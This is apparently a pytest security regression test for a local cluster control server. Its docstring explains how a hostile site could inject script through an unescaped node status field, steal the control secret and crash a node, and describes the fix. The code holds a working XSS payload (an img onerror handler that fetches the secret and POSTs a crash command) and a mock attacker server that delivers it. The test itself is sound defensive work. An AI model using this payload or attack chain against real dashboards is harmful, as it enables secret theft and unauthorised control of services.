"""Outside attack on issue 17 (h17a): the page `zmqzab up` serves on the controls' origin
reads ANY node named by ``?node=``, and puts some of that node's status fields into
``innerHTML`` unescaped (``phase`` in the summary, the game's ``target``, ``round``, guess
``value``s ...). So a web site can run its script on the controls' origin:

1. the owner has opened the address `zmqzab up` printed (``/login?secret=S``: the
   ``zmqzab_up_<port>`` cookie, HttpOnly, SameSite=Strict);
2. any web site later sends the owner's browser to
   ``http://127.0.0.1:<control port>/?node=https://evil.example`` (a top-level navigation:
   the page itself is public and needs no cookie);
3. the page opens an EventSource to evil.example, which answers (with CORS) a ``status`` whose
   ``phase`` is ``<img src=x onerror=...>``; the page renders it as HTML;
4. the script runs on the controls' own origin: ``fetch('/control/secret')`` is same-origin,
   and SameSite=Strict does not stop it (Strict holds back the cookie on the cross-site
   NAVIGATION only; the page's own requests are same-site), so it gets S and POSTs
   ``/control/crash`` with ``X-Zmqzab-Secret: S`` from the controls' own Origin.

Property broken: no web site can use the controls (issue 17, item 1).

Fixed: the controls serve their page only with ``?node=`` values that are the cluster's own
node URLs (any other, or several with one foreign, is redirected to the first node's), and the
page escapes the fields named above. Further hardening proposed: escape every node-provided value the page writes as HTML (``esc()`` on
``st.phase``, ``nodeEpoch``, the game's numbers, ``x.value``, ``w.winning_value``,
``c.queued``, ``n.data_length`` ...; or coerce numbers with ``Number()``), and make the
controls' page refuse a ``?node=`` that is not one of the cluster's own node URLs (the control
server knows them: it can serve the page with the list, or the page can check each URL
against ``/control`` before connecting; the `zmqzab up` page never needs another seed). A
``Content-Security-Policy`` with ``script-src 'self'`` (no inline handlers) on the controls'
responses is a further net: the page's script would then have to move to a file.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from zmqzab.up.control import start_control_http

from tests.polling import wait_for
from tests.unit.test_web_security import StandInSupervisor

pytestmark = [pytest.mark.web, pytest.mark.security]

PAYLOAD = ("<img src=x onerror=\"fetch('/control/secret').then(r => r.json()).then(d => "
           "fetch('/control/crash', {method: 'POST', headers: {'X-Zmqzab-Secret': d.secret, "
           "'Content-Type': 'application/json'}, body: JSON.stringify({node: 0})}))\">")


def evil_handler(control_url: str, evil_url: str,
                 stop: threading.Event) -> type[BaseHTTPRequestHandler]:
    status = {"id": 0, "role": "LEADING", "phase": PAYLOAD, "epoch": 1, "current_epoch": 1,
              "quorum": 1, "heartbeat_ms": 50, "zxid_last": "1:1", "zxid_committed": "1:1",
              "zxid_applied": "1:1", "cluster": [],
              "game": {"game": 1, "round": 1, "round_size": 3, "target": PAYLOAD,
                       "guesses": [], "history": [], "zxid_applied": "1:1"}}

    class Evil(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path.startswith("/events"):
                hello = {"node": 0, "boot": "b", "seq": 0, "heartbeat_ms": 50, "down_after_ms": 60_000}
                body = (b"event: hello\ndata: " + json.dumps(hello).encode() + b"\n\n"
                        b"event: status\ndata: " + json.dumps(status).encode() + b"\n\n")
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)
                self.wfile.flush()
                # A live node's stream stays open (the page marks a closed one DOWN).
                while not stop.wait(0.5):
                    try:
                        self.wfile.write(b": keepalive\n\n")
                        self.wfile.flush()
                    except OSError:
                        return
                return
            # The attacker's own page: it sends the browser to the controls' public page.
            body = (f"<script>location = {json.dumps(control_url + '/?node=' + evil_url)};"
                    f"</script>").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, fmt: str, *args) -> None:
            pass

    return Evil


@pytest.fixture
def controls_and_evil_site(tmp_path):
    sup = StandInSupervisor(tmp_path)
    server = start_control_http(sup, "127.0.0.1", 0)
    sup.control_url = f"http://127.0.0.1:{server.server_address[1]}"
    evil = ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
    # "localhost" is another SITE than 127.0.0.1 to the browser: the evil site is cross-site.
    evil_url = f"http://localhost:{evil.server_address[1]}"
    stop = threading.Event()
    evil.RequestHandlerClass = evil_handler(sup.control_url, evil_url, stop)
    evil.daemon_threads = True
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    yield sup, server, evil_url
    stop.set()
    evil.shutdown()
    evil.server_close()
    server.shutdown()
    server.server_close()


def test_browser_a_web_site_cannot_run_script_on_the_controls_page_and_crash_a_node(
        controls_and_evil_site, page):
    """Setup: the controls (real handler and page, stand-in supervisor); an evil site (another
    site: localhost, not 127.0.0.1) that serves a node-like event stream. Steps: the owner
    opens the printed /login address; later visits the evil site, which sends the browser to
    the controls' page with ?node=<evil site>. Expected: nothing is carried out; the test
    waits (polling, 10 s) for a crash and fails if one comes."""
    sup, _, evil_url = controls_and_evil_site
    page.goto(f"{sup.control_url}/login?secret={sup.secret}")
    page.goto(evil_url + "/")
    crashed = True
    try:
        wait_for(lambda: bool(sup.done), 10, "a control carried out for the evil site")
    except AssertionError:
        crashed = False
    assert not crashed and sup.done == [], (
        f"a page from {evil_url} made the controls do {sup.done!r} (at {page.url})")
